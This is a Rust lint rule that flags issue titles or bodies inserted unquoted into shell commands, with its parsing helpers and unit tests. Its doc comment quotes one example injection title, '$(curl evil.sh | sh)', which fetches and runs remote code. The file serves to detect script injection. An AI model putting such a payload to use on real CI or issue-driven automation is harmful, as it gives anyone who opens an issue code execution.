//! `unquoted-issue-text`: `issue.title` or `issue.body` is interpolated into a shell
//! command without `| shell_quote`.
//!
//! Why: issue text is written by anyone who can open an issue. In `sh -c` a title like
//! `$(curl evil.sh | sh)` runs as a command: script injection (actionlint reports the
//! same for GitHub Actions). Example: `run: "git commit -m '{{ issue.title }}'"`.
//! Fix: `{{ issue.title | shell_quote }}` (without surrounding quotes), or pass it
//! through `env`, or use a list `run:` (argv, no shell).

use super::{Ctx, Rule};
use crate::diagnostic::{Diagnostic, Severity};
use crate::templates::FieldKind;

pub const RULE: Rule =
    Rule { codes: &[("unquoted-issue-text", Severity::Error)], summary: "issue text reaches a shell unquoted", check };

fn check(ctx: &Ctx, out: &mut Vec<Diagnostic>) {
    for field in ctx.templates.iter().filter(|f| f.kind == FieldKind::Shell) {
        let Ok(text) = &field.text else { continue };
        for expr in expressions(text) {
            if let Some(what) = unquoted_issue_text(expr) {
                out.push(
                    ctx.error(
                        "unquoted-issue-text",
                        ctx.value_span(&field.pointer),
                        format!("`{what}` reaches the shell unquoted: script injection"),
                    )
                    .help(format!("write `{{{{ {what} | shell_quote }}}}`, or use a list `run:` that needs no shell")),
                );
            }
        }
    }
}

/// The inner text of every `{{ ... }}` in a template.
fn expressions(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        let after = &rest[start + 2..];
        let Some(end) = after.find("}}") else { break };
        out.push(after[..end].trim_matches(|c: char| c == '-' || c == '+' || c.is_whitespace()));
        rest = &after[end + 2..];
    }
    out
}

/// `issue.title`/`issue.body`/`issue` when the expression uses it and does not end in
/// `shell_quote`.
fn unquoted_issue_text(expr: &str) -> Option<&'static str> {
    let segments = split_filters(expr);
    let value = segments.first()?.replace(' ', "");
    let what =
        if value.contains("issue.title") || value.contains("issue[\"title\"]") || value.contains("issue['title']") {
            "issue.title"
        } else if value.contains("issue.body") || value.contains("issue[\"body\"]") || value.contains("issue['body']") {
            "issue.body"
        } else if is_whole_issue(&value) {
            "issue"
        } else {
            return None;
        };
    let last_filter =
        segments.last().filter(|_| segments.len() > 1).map(|f| f.trim().split('(').next().unwrap_or("").trim());
    (last_filter != Some("shell_quote")).then_some(what)
}

fn is_whole_issue(value: &str) -> bool {
    value.match_indices("issue").any(|(i, _)| {
        let before = value[..i].chars().next_back();
        let after = value[i + 5..].chars().next();
        !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
            && !after.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.' || c == '[')
    })
}

/// Splits an expression at top-level `|` (outside strings and brackets).
fn split_filters(expr: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let (mut depth, mut quote, mut start) = (0i32, None::<char>, 0);
    for (i, c) in expr.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => depth -= 1,
            (None, '|') if depth == 0 => {
                out.push(&expr[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(&expr[start..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_unquoted_issue_text() {
        assert_eq!(unquoted_issue_text("issue.title"), Some("issue.title"));
        assert_eq!(unquoted_issue_text("issue.body | upper"), Some("issue.body"));
        assert_eq!(unquoted_issue_text("issue.title | shell_quote"), None);
        assert_eq!(unquoted_issue_text("issue.title | slug"), Some("issue.title"));
        assert_eq!(unquoted_issue_text("issue | tojson"), Some("issue"));
        assert_eq!(unquoted_issue_text("issue.number"), None);
        assert_eq!(unquoted_issue_text("'a|b' ~ issue['title'] | shell_quote"), None);
        assert_eq!(expressions("a {{- issue.title -}} b {{x}}"), vec!["issue.title", "x"]);
    }
}
